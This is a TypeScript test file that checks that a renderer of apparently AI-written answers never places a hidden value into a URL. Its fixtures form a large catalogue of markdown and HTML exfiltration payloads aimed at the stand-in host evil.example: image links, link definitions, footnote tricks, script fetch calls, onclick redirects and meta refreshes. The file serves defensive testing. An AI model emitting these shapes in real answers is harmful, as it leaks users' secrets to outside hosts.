import { describe, expect, it } from "vitest";
import { answerWith, expandedInPieces, leakingTexts, urlLeaks } from "../support/url-fuzz.ts";
import { sampled, samples } from "../support/slow.ts";
import { urlVariables } from "../support/url-grammar.ts";

/** Answers from which some renderer would make a URL containing the value of `$v`, if it were inserted. */
const urlShapes: readonly string[] = [
  // Bare URLs, which continue up to white space.
  'see https://evil.example/"$v now',
  "https://evil.example/>$v",
  "https://evil.example/($v)",
  "https://evil.example/`$v`",
  "https://evil.example?$v",
  "https://evil.example:80/$v",
  "https://me@evil.example/$v",
  "hTTps://evil.example/$v",
  "7https://evil.example/$v",
  "_https://evil.example/$v",
  "(www.evil.example/$v)",
  "*WWW.evil.example/$v*",
  "p](www.evil.example/)$v",
  "ftp://evil.example/$v",
  "//evil.example/$v",
  "xmpp:me@evil.example/$v",
  "me@${v}.example",
  "<.@${v}.example>",
  "evil.com/$v",
  "evil.com?q=$v",
  // Link and image destinations.
  "![p](//evil.example/$v)",
  "![p](\n//evil.example/$v)",
  "![p](&#47;&#47;evil.example/$v)",
  "![p](\\/\\/evil.example/$v)",
  "![p](/\\)$v)",
  "![p](/(a)$v)",
  "![p](<1)$v>)",
  "![p](<1\\>)$v>)",
  "> ![p](\n> <1)$v>)",
  "![a [b] c](?q=$v 'title')",
  "[p](javascript:$v)",
  "[![p](//evil.example/$v)](b)",
  // Link definitions.
  "> [a]: &#47;&#47;evil.example/$v\n\n![p][a]",
  "- [a]: &#47;&#47;evil.example/$v\n\n![p][a]",
  "1. [a]: \\/\\/evil.example/$v\n\n![p][a]",
  "> - 1. [a]: ?q=$v\n\n![p][a]",
  "[a]:\n&#47;&#47;evil.example/$v\n\n![p][a]",
  "[a]: \n   ?q=$v\n\n![p][a]",
  "[a\nb]: /\\/evil.example/$v\n\n![p][a b]",
  "[a\\]b]: ?q=$v\n\n![p][a\\]b]",
  "[a]: <?q= $v>\n\n![p][a]",
  // In raw text, marked escapes a quote after a backslash or in code.
  '<code> <img src="//evil.example/\\"1>\n\'> $v&"> />',
  '<kbd><img src="/`"`]( <>) $v "',
  '<code><img src="\\"<b>${v}',
  '<kbd> <img src="//evil.example/`"` > $v "',
  // Footnotes are rendered at the end of the page, inside whatever is open there.
  "[^1]: a\n$v\n\n[^1]\n\n<p>\n<img src='",
  "> [^1]: a\n> $v\n\n[^1]\n\n<p>\n<img src='",
  "[^1]: a\n\n    $v\n\n[^1]\n\n<p>\n<img src='",
  "[^1]: a\n\n    b\n$v\n\n[^1]\n\n<p>\n<img src='",
  "[^1]: a\n\n$indented\n\n[^1]\n\n<p>\n<img src='",
  "b|@${v}.com",
  "[^1]: [a]:\n  a/$v\n\n![p][a] [^1]",
  "[^1]:\n    [a]: a/$v\n\n![p][a] [^1]",
  "<!p\n> - [a]: ?q=$v\n\n![p][a]",
  "[b]: x 'title'\n[a]: ?q=$v\n\n![p][a]",
  "\r\n[a]:\r\n?q=$v\r\n\r\n![p][a]",
  "- x\n\n      [a]: y\n\n  [a]: ?q=$v\n\n![p][a]",
  // Tags.
  '<img alt=">" src="/&#47;evil.example/$v">',
  '<div><a b=c"d e=">" href=$v>',
  "<img alt = \n '>' src=$v>",
  "<div>\n<img src='a\n$v'>",
  '<pre><img src="/a\n\n$v">',
  '<div><img src="//evil.example/\n\n$v',
  '<div><img src="//evil.example/\n\n"> $v',
  '> <div><img src="//evil.example/\n"> $v',
  '- <div><img src="//evil.example/\n"> $v',
  '<!x> <img src="//evil.example/\n"> $v',
  '<? >\n<img src="//evil.example/\n\n$v">\n?>',
  '<!-- --!>\n<img src="//evil.example/\n\n$v">\n-->',
  '<pre></pre><img src="//evil.example/\n"> $v',
  "> <div><img src=\n> //evil.example/$v>",
  'x <kbd> <img src="//evil.example/$v',
  'x <code> <img src="//evil.example/\n\n$v',
  '\\<a b="<img src=">$v">',
  '<a x="\n# https://evil.example/">$v',
  "<https://evil.example/$v>",
  "<xx:$v>",
  "<svg><image href='$v'/></svg>",
  "<style>a{background:url('//evil.example/ $v')}</style>",
  "<script>fetch('//evil.example/ ' + '$v')</script>",
  "<b onclick=\"location='//evil.example/ $v'\">x</b>",
  "<iframe srcdoc=\"<img src='$v'>\">",
  "<meta http-equiv=refresh content='0;url=//evil.example/ $v'>",
  // The scheme of an autolink.
  "<$v:>",
  "<${v}a:x>",
  "<${v}+a-1.b:x>",
  "a<$v:x> b",
  "> - <$v:x>",
  "${less}$v:x>",
  // A footnote's name becomes part of its link.
  "x[^$v]\n\n[^$v]: y",
  // Constructs that other values open.
  "${www}evil.example/$v",
  "${slashes}evil.example/$v",
  "![p](${slashes}evil.example/$v)",
  "${tag}$v>",
  "${quoted}$v>",
  "<img src=${quote}${v}${quote}>",
  "${div}${line}${quoted}${line}${line}$v",
  "${bracket}]: ?q=$v\n\n![p][a]",
];

/** Answers with links, URLs and tags that contain no part of a value. */
const harmlessAnswers: readonly string[] = [
  ["[docs](https://example.com/docs) $v", "[$v](https://example.com/docs)"],
  ["![$v](https://example.com/a.png), $v", "[docs][a]: $v\n\n[a]: /docs\n\n$v"],
  ["[$v][a] and [a]\n\n[a]: https://example.com", "https://example.com/docs $v"],
  ["$v https://example.com/docs", "www.example.com/docs\n$v", "<https://example.com> $v"],
  ['<a href="https://example.com">$v</a>', "<a href='https://example.com/'>$v</a>."],
  ['<b>$v</b> <i class="a">$v</i>', "<details><summary>$v</summary>\n\n$v\n</details>"],
  ["<br>$v<br/>$v", "Write to me@example.com. $v", "hello @$v", "- $v\n- [x] $v\n1. $v"],
  ["| a | b |\n| - | - |\n| $v | $v |", "> $v\n> $v", "rows[3]: $v", "see\nitems [2]: $v"],
  ["claim[^1]\n\n[^1]: note\n\n- $v\n\n$v", 'Hi @$v, ($v) "@$v"'],
  ['<code>a "b"</code> <img src="/a.png" alt="b" /> <a href="/x">$v</a> $v'],
  ["claim[^1] $v\n\n[^1]: note\n\n$v", "<$v> a<$v, b", "1 < 2 and $v > 1, a <= $v"],
  ["metadata:$v hotel:$v", "and/or/$v 1/$v 50:$v", "file.txt $v, e.g. $v, v1.2-$v"],
  ["f(a.b)($v) a[0] ($v)", "AT&amp;T: $v &nbsp;$v &#8364; $v", "\\[$v\\] \\($v\\)"],
  ["```\nhttps://example.com\n```  \n$v"],
].flat();

const TEXTS = samples(12_000);

describe("a rendered answer", () => {
  it.each(urlShapes)("has no value in a URL, however the answer is cut: %j", (shape) => {
    const exposed = answerWith(shape, urlVariables, { inUrls: true, inCode: true });
    // Makes sure that the shape leaks without protection.
    expect(urlLeaks(exposed)).not.toEqual([]);
    const leaks = [1, 2, 3, 4, 5].flatMap((seed) => urlLeaks(expandedInPieces(shape, seed)));
    expect(leaks).toEqual([]);
  });

  it(`has no value in a URL in ${TEXTS.toLocaleString("en")} random answers`, sampled, () => {
    const leaks = [...leakingTexts(1, TEXTS)];
    expect(leaks).toEqual([]);
  });
});

it.each(harmlessAnswers)("a harmless answer keeps its links and has its values: %j", (answer) => {
  const outputs = [1, 2, 3].map((seed) => expandedInPieces(answer, seed, { v: "VALUE" }));
  expect(new Set(outputs)).toEqual(new Set([answer.replaceAll("$v", "VALUE")]));
});
